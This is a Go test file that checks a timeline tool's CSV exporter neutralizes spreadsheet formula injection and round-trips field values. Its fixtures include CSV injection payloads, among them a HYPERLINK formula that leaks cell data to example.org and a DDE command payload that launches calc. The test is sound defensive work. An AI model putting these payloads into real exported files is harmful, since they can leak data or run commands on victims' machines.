package eventcsv

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"

	"github.com/timeline-tool/timeline/timeline"
)

// formulas are cell texts a spreadsheet would evaluate, and texts that
// look like the neutralized form of one.
var formulas = []string{
	`=HYPERLINK("https://example.org/?leak="&A1,"click")`,
	"+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "'=already quoted", "''@x",
}

// formulaDataset puts a formula in every text field of every record.
func formulaDataset(t *testing.T) *timeline.Dataset {
	t.Helper()
	f := func(i int) string { return formulas[i%len(formulas)] }
	span, _ := timeline.ParseDate("1990/1999")
	date, _ := timeline.ParseDate("-0044-03-15")
	return &timeline.Dataset{
		Title: f(0), Subtitle: f(1), Document: "=doc",
		Eras:       []*timeline.Era{{ID: "+era", Label: f(2), Span: span, Description: f(3)}},
		Categories: []*timeline.Category{{ID: "@cat", Label: f(4), Description: f(5)}},
		Sources:    []*timeline.Source{{ID: "=doc", Title: f(6), Author: f(7), Publisher: f(8), Locator: f(0), URL: "https://example.org/=x"}},
		Events: []*timeline.Event{{ID: "-ev", Date: date, Display: f(1), Title: f(2), Summary: f(3), Era: "+era", Category: "@cat",
			Tags: []string{"=tag", "+t"}, Attribution: f(4), Sources: []string{"=doc"}, Section: f(5)}},
	}
}

// TestFormulasNeutralized: no cell Write writes starts a formula, a
// spreadsheet shows the text, and Read gives every field back exactly.
func TestFormulasNeutralized(t *testing.T) {
	d := formulaDataset(t)
	var b bytes.Buffer
	if err := Write(&b, d, Options{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	neutralized := 0
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
			if strings.HasPrefix(c, "'") {
				neutralized++
			}
		}
	}
	if neutralized < 20 {
		t.Errorf("%d cells neutralized, want every formula (20 or more):\n%s", neutralized, b.String())
	}
	back, _, err := Read("f.csv", b.Bytes())
	if err != nil {
		t.Fatalf("%v\n%s", err, b.String())
	}
	if !reflect.DeepEqual(fields(back), fields(d)) {
		var x, y bytes.Buffer
		timeline.Encode(&x, d)
		timeline.Encode(&y, back)
		t.Errorf("Read(Write(d)) != d:\n%s\nwant\n%s", y.String(), x.String())
	}

	// Raw writes the cells as they are.
	var raw bytes.Buffer
	if err := Write(&raw, d, Options{Raw: true}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"=HYPERLINK(""https://example.org/?leak=""&A1,""click"")"`, ",+1+1,", ",@cat,"} {
		if !strings.Contains(raw.String(), want) {
			t.Errorf("the raw CSV lacks %q:\n%s", want, raw.String())
		}
	}
}
